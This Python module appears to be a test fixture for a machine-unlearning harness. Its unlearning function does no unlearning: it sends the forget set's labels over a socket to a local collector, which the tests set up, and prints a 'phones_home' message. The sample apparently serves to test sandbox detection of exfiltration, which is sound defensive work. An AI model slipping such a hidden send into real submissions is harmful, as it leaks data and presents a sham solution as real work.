"""Exfiltration: send what the run sees (here, the forget set's labels) to a server.

``HOST`` and ``PORT`` name the collector; the tests start one on 127.0.0.1 and write its port
here before scoring. Every run tries to connect and send, and prints what happened.
"""

import json
import socket

HOST = "127.0.0.1"
PORT = 0  # the collector's port (the tests replace this line)


def _send(payload):
    for host in (HOST, "localhost"):
        try:
            with socket.create_connection((host, PORT), timeout=2) as connection:
                connection.sendall(payload)
            return f"sent {len(payload)} bytes to {host}:{PORT}"
        except OSError as error:
            last = f"{type(error).__name__}: {error}"
    return f"could not connect ({last})"


def unlearning(net, retain, forget, val):
    labels = [int(y) for _, targets in forget for y in targets]
    print(f"phones_home: {_send(json.dumps(labels).encode())}")
    return net
